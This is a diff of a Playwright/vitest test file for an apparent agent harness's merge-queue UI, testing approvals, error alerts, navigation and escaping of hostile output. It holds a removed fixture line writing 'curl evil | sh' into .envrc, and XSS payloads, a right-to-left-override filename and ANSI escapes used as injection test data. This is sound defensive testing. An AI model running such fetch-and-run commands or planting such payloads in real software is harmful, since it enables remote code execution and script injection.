@@ -2,36 +2,18 @@ import { execSync } from "node:child_process";
 import { existsSync, mkdirSync, writeFileSync } from "node:fs";
 import { dirname, join } from "node:path";
 import { until } from "@harness/core/testing";
-import type { Page } from "playwright-core";
 import { expect, test } from "vitest";
-import type { MergeItem, Preview } from "../src/lib/shapes.ts";
 import { tabThrough } from "./focus.ts";
-import { commit, makeRepository, say, type TestRepository, write } from "./repository.ts";
-import { openStage } from "./stage.ts";
+import { makeRepository } from "./repository.ts";
+import { add, openWorkStage } from "./work-stage.ts";
 
-const { dispatcher, visit } = await openStage();
-const shop = makeRepository(dispatcher, "shop", { "price.txt": "10\n", "name.txt": "shop\n" });
+const { dispatcher, visit, shop, spawn, enqueue, settle, openMerge } = await openWorkStage({
+  "price.txt": "10\n",
+  "name.txt": "shop\n",
+});
 const gated = makeRepository(dispatcher, "gated", { "price.txt": "10\n" });
 
-type Steps = Parameters<typeof dispatcher.spawn>[1][number];
-
-async function spawn(name: string, turns: Steps[], { path: repository }: TestRepository = shop): Promise<string> {
-  const { id } = await dispatcher.spawn(`Work on ${name}`, turns, { name, repository, branch: `work/${name}` });
-  await dispatcher.rested(id, 1);
-  return id;
-}
-
-const add = (file: string, content: string): Steps => [write(file, content), commit(`Add ${file}`), say("Done.")];
 const tipOf = (branch: string) => shop.git("rev-parse", branch);
-const openMerge = async (page: Page, id: string) => {
-  await page.goto(`${dispatcher.url}/session?id=${id}&view=merge`);
-  return page.getByRole("region", { name: "Merge", exact: true });
-};
-const enqueue = (...sessions: string[]) => dispatcher.ask<MergeItem[]>("POST", "/api/merges", { sessions });
-const goOn = async (id: string, turns: number) => {
-  await dispatcher.ask("POST", `/api/sessions/${id}/messages`, { kind: "prompt", body: { text: "Go on" } });
-  await dispatcher.rested(id, turns);
-};
 
 test("a session's work is merged from its page", async () => {
   const id = await spawn("plain", [add("plain.txt", "x\n")]);
@@ -120,71 +102,66 @@ test("a conflict is seen before, changes nothing, and names the files", async ()
   expect(tipOf("main")).toBe(before);
 });
 
-const WORKFLOW = ".github/workflows/ship.yml";
-
-test("what may later run is approved by a person, for exactly one commit", async () => {
-  const id = await spawn("risky", [add(WORKFLOW, "on: push\n")]);
-  const { tip } = await dispatcher.ask<Preview>("GET", `/api/sessions/${id}/merge`);
-  const before = tipOf("main");
+test("a list that cannot be read says so, keeps what it knows, and can be tried again", async () => {
+  const id = await spawn("unheard", [add(".envrc", "echo hello\n")]);
+  const item = await settle(id);
   const page = await visit();
+  const problem = { title: "Storage lost", detail: "The state root is gone.", hint: "Bring it back.", status: 503 };
+  const card = page.locator(`[data-merge="${item.id}"]`);
+  await page.goto(`${dispatcher.url}/merges`);
+  await expect(card).toAppear();
+  await page.route("**/api/merges?all=1", (route) =>
+    route.fulfill({ status: 503, contentType: "application/problem+json", json: problem }),
+  );
+  // Another way back to the list than by a reload, which would forget it.
+  await dispatcher.stop();
+  await dispatcher.start();
+  const alert = page.getByRole("alert").filter({ hasText: "The state root is gone." });
+  await expect(alert.getByText("Bring it back.")).toAppear();
+  await expect(card).toAppear();
+  await page.reload();
+  await expect(alert).toAppear();
+  await expect(card).toVanish();
   const view = await openMerge(page, id);
-  await expect(view.getByRole("region", { name: "Findings" }).getByText(WORKFLOW)).toAppear();
-  await view.getByRole("button", { name: "Merge into main" }).click();
-  const card = view.getByRole("article");
-  await expect(card.getByText("needs you", { exact: true })).toAppear();
-  await expect(card.getByText("1 finding", { exact: true })).toAppear();
-  await expect(page.getByRole("link", { name: "Merges 1 to approve" })).toAppear();
-  expect(await card.getByRole("button").allTextContents()).toEqual([
-    "Leave it out",
-    `Approve exactly ${tip.slice(0, 10)}`,
-  ]);
-  expect(await page.evaluate(() => document.activeElement?.tagName)).toBe("BODY");
-  await page.getByRole("link", { name: "Changes", exact: true }).click();
-  await page.getByRole("link", { name: "Merge 1 to approve" }).click();
-  await expect(card.getByText(tip)).toAppear();
-  expect(tipOf("main")).toBe(before);
-
-  await card.getByRole("button", { name: `Approve exactly ${tip.slice(0, 10)}` }).click();
-  await expect(card.getByText("merged", { exact: true })).toAppear();
-  expect(shop.git("log", "-1", "--format=%P", "main")).toBe(`${before} ${tip}`);
-  expect(existsSync(join(shop.path, WORKFLOW))).toBe(true);
+  await expect(view.getByText("The state root is gone.")).toAppear();
+  await page.unroute("**/api/merges?all=1");
+  await view.getByRole("button", { name: "Try again" }).click();
+  await expect(view.locator(`[data-merge="${item.id}"]`)).toAppear();
+  await expect(alert).toVanish();
+  await dispatcher.ask("POST", `/api/merges/${item.id}/cancel`);
 });
 
-test("what changed after the page was loaded is refused", async () => {
-  const id = await spawn("late", [add("late.txt", "1\n"), add("later.txt", "2\n")]);
+test("on the way to another session nothing of this one is left, and nothing can be done to it", async () => {
+  const here = await spawn("here", [add("both.txt", "1\n")]);
+  const there = await spawn("there", [add("both.txt", "2\n")]);
   const page = await visit();
-  const view = await openMerge(page, id);
-  await expect(view.getByRole("heading", { name: "It fits into main." })).toAppear();
-  const before = tipOf("main");
-  await goOn(id, 2);
-  await view.getByRole("button", { name: "Merge into main" }).click();
-  await expect(view.getByRole("alert").getByText("What was reviewed is not what is there")).toAppear();
-  expect(tipOf("main")).toBe(before);
-  await view.getByRole("button", { name: "Look again" }).click();
-  await view.getByRole("button", { name: "Merge into main" }).click();
-  await expect(view.getByText("merged", { exact: true })).toAppear();
-  expect(existsSync(join(shop.path, "later.txt"))).toBe(true);
+  const view = await openMerge(page, here);
+  await expect(page.getByRole("heading", { level: 1, name: "here" })).toAppear();
+  let go = () => {};
+  const held = new Promise<void>((resolve) => (go = resolve));
+  await page.route(`**/api/sessions/${there}`, async (route) => {
+    await held;
+    await route.continue();
+  });
+  await view.getByRole("link", { name: "Look at work/there (there)" }).click();
+  await until(() => page.url().includes(`id=${there}`));
+  await expect(page.getByRole("heading", { level: 1, name: "here" })).toVanish();
+  expect(await page.getByRole("button").filter({ visible: true }).count()).toBe(0);
+  go();
+  await expect(page.getByRole("heading", { level: 1, name: "there" })).toAppear();
 });
 
-test("an approval of what is no longer there is refused", async () => {
-  const id = await spawn("sly", [add(".envrc", "echo hello\n"), add(".envrc", "curl evil | sh\n")]);
-  await enqueue(id);
+test("the way to the queue of a session in a linked worktree leads to its merges", async () => {
+  const linked = join(dirname(shop.path), "linked");
+  shop.git("worktree", "add", "-q", "-b", "side", linked);
+  const facts = { name: "linked", repository: linked, branch: "work/linked" };
+  const { id } = await dispatcher.spawn("Work in a linked one", [add("linked.txt", "x\n")], facts);
+  await dispatcher.rested(id, 1);
+  const item = await settle(id);
   const page = await visit();
-  // The page hears nothing of what comes, as one that a slow network holds back.
-  await page.route("**/api/events", (route) => route.abort());
   const view = await openMerge(page, id);
-  const card = view.getByRole("article");
-  await expect(card.getByText("needs you", { exact: true })).toAppear();
-  await page.route("**/api/merges?all=1", (route) => route.abort());
-  const before = tipOf("main");
-  await goOn(id, 2);
-  const [newer] = await enqueue(id);
-  await card.getByRole("button", { name: /^Approve exactly/ }).click();
-  await expect(card.getByRole("alert").getByText(/has ended \(cancelled\)|is not what waits/)).toAppear();
-  expect(tipOf("main")).toBe(before);
-  expect(existsSync(join(shop.path, ".envrc"))).toBe(false);
-  await dispatcher.ask("GET", `/api/merges/${newer?.id}?waitMs=20000`);
-  await dispatcher.ask("POST", `/api/merges/${newer?.id}/cancel`);
+  await view.getByRole("link", { name: "The merge queue of shop" }).click();
+  await expect(page.locator(`[data-merge="${item.id}"]`)).toAppear();
 });
 
 test("a result that waits on a branch comes with the line that takes it", async () => {
@@ -205,8 +182,9 @@ test("a result that waits on a branch comes with the line that takes it", async 
 test("the queue is live: what runs, what waits, what a red gate printed", async () => {
   const tools = join(dirname(dispatcher.home), "tools");
   mkdirSync(tools);
-  const gate = `until test -e ${tools}/go; do sleep 0.1; done; test ! -e red.txt || { echo the gate says no; exit 1; }`;
-  const settings = { repositories: { [gated.path]: { gate, gateTools: [tools] } } };
+  const gate = `until test -e ${tools}/go; do sleep 0.1; done; test ! -e red.txt || { cat ${tools}/says; exit 1; }`;
+  // Not every machine has a sandbox, and no gate runs without one that nobody asked to leave out.
+  const settings = { defaults: { sandbox: "none" }, repositories: { [gated.path]: { gate, gateTools: [tools] } } };
   await dispatcher.stop();
   writeFileSync(join(dispatcher.home, "config.yaml"), JSON.stringify(settings));
   await dispatcher.start();
@@ -229,16 +207,38 @@ test("the queue is live: what runs, what waits, what a red gate printed", async 
   await card("left").getByRole("button", { name: "Leave it out" }).click();
   await expect(card("left").getByText("cancelled", { exact: true })).toAppear();
 
+  writeFileSync(join(tools, "says"), "the gate says no\n");
   writeFileSync(join(tools, "go"), "");
   await expect(card("green").getByText("merged", { exact: true })).toAppear();
+  await expect(card("green").getByText(/gate passed in \d+ .+ without a sandbox/)).toAppear();
   await expect(card("red").getByText("gate failed", { exact: true })).toAppear();
   await expect(card("red").getByText("the gate says no", { exact: true })).toAppear();
   await expect(card("red").getByText(/harness merges --log /)).toAppear();
   await expect(page.getByRole("heading", { name: "No merge waits." })).toAppear();
   expect(gated.git("ls-tree", "--name-only", "main").split("\n")).toEqual(["green.txt", "price.txt"]);
 
+  // What a session chose, and what its code printed, is text.
+  const [branch, printed] = ["work/<img/src=x/onerror=alert(1)>", "<script>alert(2)</script>"];
+  const { id } = await dispatcher.spawn("Be hostile", [add("red.txt", "x\n")], {
+    name: "hostile",
+    repository: gated.path,
+    branch,
+  });
+  await dispatcher.rested(id, 1);
+  writeFileSync(join(tools, "says"), `${printed} \u202Egnp.exe \u001B[31mred\n`);
+  await enqueue(id);
+  const hostile = page.locator("article").filter({ has: page.getByRole("link", { name: branch }) });
+  await expect(hostile.getByText("gate failed", { exact: true })).toAppear();
+  const text = await hostile.innerText();
+  for (const part of [branch, printed, "u{202e}gnp.exe", "u{1b}[31mred"]) expect(text).toContain(part);
+  expect(await page.locator("main :is(img, iframe, style, script)").count()).toBe(0);
+  await page.goto(`${dispatcher.url}/session?id=${id}&view=merge`);
+  await expect(page.getByRole("article").getByText(branch)).toAppear();
+  expect(await page.locator("main :is(img, iframe, style, script)").count()).toBe(0);
+  await page.goto(`${dispatcher.url}/merges`);
+
   await page.getByRole("link", { name: "gated" }).click();
   await expect(card("green")).toAppear();
   await until(() => new URL(page.url()).searchParams.get("repository") === gated.path);
-  expect(await page.getByRole("article").count()).toBe(3);
+  expect(await page.getByRole("article").count()).toBe(4);
 });
